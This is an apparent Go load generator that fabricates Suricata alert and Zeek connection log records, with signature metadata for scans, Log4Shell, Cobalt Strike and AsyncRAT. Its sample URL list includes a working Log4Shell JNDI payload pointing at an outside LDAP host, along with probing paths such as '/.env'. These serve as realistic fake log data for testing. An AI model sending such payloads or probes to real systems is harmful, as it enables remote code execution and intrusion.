package loadgen

import "time"

// sensor is a network sensor: Suricata and Zeek run on the same taps.
type sensor struct {
	name, iface string
	off         int // Suricata writes local time with the sensor's offset
}

var sensors = []sensor{
	{"ids-dmz-fra1", "ens5", 60},
	{"ids-core-fra1", "ens6f0", 60},
	{"ids-dc-nyc2", "bond0", -300},
	{"ids-aws-use1", "eth0", 0},
}

// signature is a Suricata rule the sensors alert on.
type signature struct {
	sid, rev, severity int
	msg, category      string
	inbound            bool // from the Internet to us (else outbound)
	port               int
	proto, app         string
	target, created    string
}

var signatures = []signature{
	{2001219, 20, 2, "ET SCAN Potential SSH Scan", "Attempted Information Leak", true, 22, "TCP", "", "Server", "2010_07_30"},
	{2010935, 3, 2, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", true, 1433, "TCP", "", "Server", "2010_07_30"},
	{2010937, 3, 2, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", true, 3306, "TCP", "", "Server", "2010_07_30"},
	{2402000, 7104, 2, "ET DROP Dshield Block Listed Source group 1", "Misc Attack", true, 443, "TCP", "tls", "Server", "2010_12_30"},
	{2034647, 2, 1, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", true, 80, "TCP", "http", "Server", "2021_12_10"},
	{2024364, 5, 2, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", true, 80, "TCP", "http", "Web_Server", "2017_06_08"},
	{2008578, 10, 2, "ET SCAN Sipvicious Scan", "Attempted Information Leak", true, 5060, "UDP", "sip", "Server", "2010_07_30"},
	{2013028, 7, 3, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", false, 80, "TCP", "http", "Client_Endpoint", "2011_06_14"},
	{2018959, 4, 3, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", false, 80, "TCP", "http", "Client_Endpoint", "2014_08_19"},
	{2027758, 3, 2, "ET INFO Observed DNS Query to .top TLD", "Potentially Bad Traffic", false, 53, "UDP", "dns", "Client_Endpoint", "2019_07_26"},
	{2027863, 4, 1, "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected", false, 443, "TCP", "tls", "Client_Endpoint", "2019_08_13"},
	{2030358, 2, 1, "ET MALWARE Observed Malicious SSL Cert (AsyncRAT Server)", "Domain Observed Used for C2 Detected", false, 8808, "TCP", "tls", "Client_Endpoint", "2020_06_18"},
}

var httpHosts = []string{"shop.example.com", "api.example.com", "www.example.com", "vpn.example.com", "downloads.example-cdn.net"}

var httpURLs = []string{
	"/", "/wp-login.php", "/api/v1/login?user=${jndi:ldap://45.83.64.1:1389/a}", "/.env",
	"/cgi-bin/luci/;stok=/locale", "/static/app.js", "/updates/agent_setup.exe", "/owa/auth/logon.aspx",
}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
	"curl/8.5.0",
	"python-requests/2.32.3",
	"Go-http-client/1.1",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
}

// suricataAlert appends a Suricata EVE alert.
func (m *Mix) suricataAlert(b []byte) []byte {
	s := &sensors[m.n(len(sensors))]
	sig := &signatures[m.n(len(signatures))]
	m.lastHost = s.name
	start := m.now - int64(m.n(30_000_000))*int64(time.Microsecond)

	var src, dst [24]byte
	srcIP, dstIP := src[:0], dst[:0]
	var srcPort, dstPort int
	if sig.inbound {
		srcIP = m.appendPublicIP(srcIP)
		dstIP = append(dstIP, m.server().ip...)
		srcPort, dstPort = m.between(1024, 65535), sig.port
	} else {
		srcIP = append(srcIP, m.endpoint().ip...)
		dstIP = m.appendPublicIP(dstIP)
		srcPort, dstPort = m.between(49152, 65535), sig.port
	}
	b = append(b, `{"timestamp":"`...)
	b = appendTS(b, m.now, 6, s.off, zoneNoColon)
	b = append(b, `","flow_id":`...)
	b = appendInt(b, int(m.u64()>>12))
	b = append(b, `,"in_iface":"`...)
	b = append(b, s.iface...)
	b = append(b, `","event_type":"alert","src_ip":"`...)
	b = append(b, srcIP...)
	b = append(b, `","src_port":`...)
	b = appendInt(b, srcPort)
	b = append(b, `,"dest_ip":"`...)
	b = append(b, dstIP...)
	b = append(b, `","dest_port":`...)
	b = appendInt(b, dstPort)
	b = append(b, `,"proto":"`...)
	b = append(b, sig.proto...)
	b = append(b, `","pkt_src":"wire/pcap","community_id":"`...)
	b = m.appendCommunityID(b)
	b = append(b, `","alert":{"action":"allowed","gid":1,"signature_id":`...)
	b = appendInt(b, sig.sid)
	b = append(b, `,"rev":`...)
	b = appendInt(b, sig.rev)
	b = append(b, `,"signature":"`...)
	b = append(b, sig.msg...)
	b = append(b, `","category":"`...)
	b = append(b, sig.category...)
	b = append(b, `","severity":`...)
	b = appendInt(b, sig.severity)
	b = append(b, `,"metadata":{"attack_target":["`...)
	b = append(b, sig.target...)
	b = append(b, `"],"created_at":["`...)
	b = append(b, sig.created...)
	b = append(b, `"],"deployment":["Perimeter"],"signature_severity":["`...)
	b = append(b, pickS(m, []string{"Informational", "Minor", "Major"})...)
	b = append(b, `"],"updated_at":["2025_03_11"]}}`...)
	switch sig.app {
	case "http":
		b = append(b, `,"app_proto":"http","http":{"hostname":"`...)
		b = append(b, pickS(m, httpHosts)...)
		b = append(b, `","url":`...)
		b = appendQ(b, pickS(m, httpURLs))
		b = append(b, `,"http_user_agent":"`...)
		b = append(b, pickS(m, userAgents)...)
		b = append(b, `","http_method":"GET","protocol":"HTTP/1.1","status":`...)
		b = append(b, pickS(m, []string{"200", "404", "403", "301"})...)
		b = append(b, `,"length":`...)
		b = appendInt(b, m.n(20000))
		b = append(b, '}')
	case "tls":
		b = append(b, `,"app_proto":"tls","tls":{"sni":"`...)
		b = append(b, pickS(m, dnsNames)...)
		b = append(b, `","version":"TLS 1.2","ja3":{"hash":"`...)
		b = m.appendRandHex(b, 32)
		b = append(b, `"}}`...)
	case "dns":
		b = append(b, `,"app_proto":"dns","dns":{"query":[{"type":"query","id":`...)
		b = appendInt(b, m.n(65536))
		b = append(b, `,"rrname":"`...)
		b = append(b, dnsNames[len(dnsNames)-1]...)
		b = append(b, `","rrtype":"A","tx_id":0}]}`...)
	case "sip":
		b = append(b, `,"app_proto":"sip"`...)
	}
	pts, ptc := 1+m.n(40), m.n(40)
	bts, btc := pts*(54+m.n(600)), ptc*(60+m.n(1400))
	b = append(b, `,"direction":"to_server","flow":{"pkts_toserver":`...)
	b = appendInt(b, pts)
	b = append(b, `,"pkts_toclient":`...)
	b = appendInt(b, ptc)
	b = append(b, `,"bytes_toserver":`...)
	b = appendInt(b, bts)
	b = append(b, `,"bytes_toclient":`...)
	b = appendInt(b, btc)
	b = append(b, `,"start":"`...)
	b = appendTS(b, start, 6, s.off, zoneNoColon)
	b = append(b, `","src_ip":"`...)
	b = append(b, srcIP...)
	b = append(b, `","dest_ip":"`...)
	b = append(b, dstIP...)
	b = append(b, `","src_port":`...)
	b = appendInt(b, srcPort)
	b = append(b, `,"dest_port":`...)
	b = appendInt(b, dstPort)
	b = append(b, `},"host":"`...)
	b = append(b, s.name...)
	return append(b, `"}`...)
}

// conn is a Zeek connection profile.
type conn struct {
	proto, service string
	port           int
	states         []string
	outbound       bool
}

var conns = []conn{
	{"tcp", "ssl", 443, []string{"SF", "SF", "SF", "S1", "RSTO", "S0"}, true},
	{"tcp", "http", 80, []string{"SF", "SF", "RSTR"}, true},
	{"udp", "dns", 53, []string{"SF", "SF", "SHR"}, true},
	{"tcp", "ssh", 22, []string{"SF", "S0", "REJ", "RSTO"}, false},
	{"tcp", "smb", 445, []string{"SF", "S1", "REJ"}, false},
	{"tcp", "krb_tcp", 88, []string{"SF"}, false},
	{"udp", "ntp", 123, []string{"SF", "S0"}, true},
	{"tcp", "", 3389, []string{"S0", "REJ", "SF"}, false},
	{"tcp", "", 8443, []string{"SF", "S0"}, true},
}

var connHistory = map[string][]string{
	"SF":   {"ShADadFf", "ShADadfF", "ShADdaFf", "ShAdDafF"},
	"S0":   {"S", "S"},
	"S1":   {"ShADad", "ShAD"},
	"REJ":  {"Sr", "Sr"},
	"RSTO": {"ShADadR", "ShAdDaR"},
	"RSTR": {"ShADadr", "ShADdar"},
	"SHR":  {"Cd", "d"},
}

// zeekConn appends a Zeek conn.log record in Zeek's JSON writer format.
func (m *Mix) zeekConn(b []byte) []byte {
	s := &sensors[m.n(len(sensors))]
	c := &conns[m.skew(len(conns))]
	state := pickS(m, c.states)
	m.lastHost = s.name
	m.zeekFlow++
	dur := m.n(120_000_000) // µs
	if c.service == "dns" || c.service == "ntp" {
		dur = m.n(200_000)
	}
	ts := m.now - int64(dur)*int64(time.Microsecond)
	b = append(b, `{"ts":`...)
	b = appendEpochFrac(b, ts, 6)
	b = append(b, `,"uid":"C`...)
	b = m.appendAlpha(b, base62, 17)
	b = append(b, `","id.orig_h":"`...)
	if c.outbound {
		b = append(b, m.endpoint().ip...)
	} else if m.chance(50) {
		b = m.appendPublicIP(b)
	} else {
		b = append(b, m.endpoint().ip...)
	}
	b = append(b, `","id.orig_p":`...)
	b = m.appendEphemeral(b)
	b = append(b, `,"id.resp_h":"`...)
	switch {
	case c.service == "dns":
		b = append(b, pickS(m, []string{"10.100.0.2", "10.100.0.3", "8.8.8.8", "1.1.1.1"})...)
	case c.outbound:
		b = m.appendDestIP(b)
	default:
		b = append(b, m.server().ip...)
	}
	b = append(b, `","id.resp_p":`...)
	b = appendInt(b, c.port)
	b = append(b, `,"proto":"`...)
	b = append(b, c.proto...)
	b = append(b, '"')
	established := state != "S0" && state != "REJ"
	if c.service != "" && established {
		b = append(b, `,"service":"`...)
		b = append(b, c.service...)
		b = append(b, '"')
	}
	var ob, rb int
	if established {
		ob, rb = m.n(8000), m.n(400_000)
		b = append(b, `,"duration":`...)
		b = appendFloat(b, float64(dur)/1e6, 6)
		b = append(b, `,"orig_bytes":`...)
		b = appendInt(b, ob)
		b = append(b, `,"resp_bytes":`...)
		b = appendInt(b, rb)
	}
	b = append(b, `,"conn_state":"`...)
	b = append(b, state...)
	b = append(b, `","local_orig":`...)
	if c.outbound {
		b = append(b, `true,"local_resp":false`...)
	} else {
		b = append(b, `false,"local_resp":true`...)
	}
	b = append(b, `,"missed_bytes":0,"history":"`...)
	b = append(b, pickS(m, connHistory[state])...)
	op, rp := 1+ob/1200+m.n(4), rb/1400+m.n(3)
	b = append(b, `","orig_pkts":`...)
	b = appendInt(b, op)
	b = append(b, `,"orig_ip_bytes":`...)
	b = appendInt(b, ob+op*52)
	b = append(b, `,"resp_pkts":`...)
	b = appendInt(b, rp)
	b = append(b, `,"resp_ip_bytes":`...)
	b = appendInt(b, rb+rp*52)
	b = append(b, `,"orig_l2_addr":"`...)
	b = append(b, m.endpoint().mac...)
	b = append(b, `","resp_l2_addr":"00:1c:73:`...)
	b = m.appendHexMAC3(b)
	b = append(b, `","community_id":"`...)
	b = m.appendCommunityID(b)
	b = append(b, `","_path":"conn","_system_name":"`...)
	b = append(b, s.name...)
	b = append(b, `","_write_ts":"`...)
	b = appendTS(b, m.now, 6, 0, zoneZ)
	return append(b, `"}`...)
}

// appendHexMAC3 appends three random MAC octets "xx:xx:xx".
func (m *Mix) appendHexMAC3(b []byte) []byte {
	v := m.u64()
	b = appendHex(b, v, 2)
	b = append(b, ':')
	b = appendHex(b, v>>8, 2)
	b = append(b, ':')
	return appendHex(b, v>>16, 2)
}
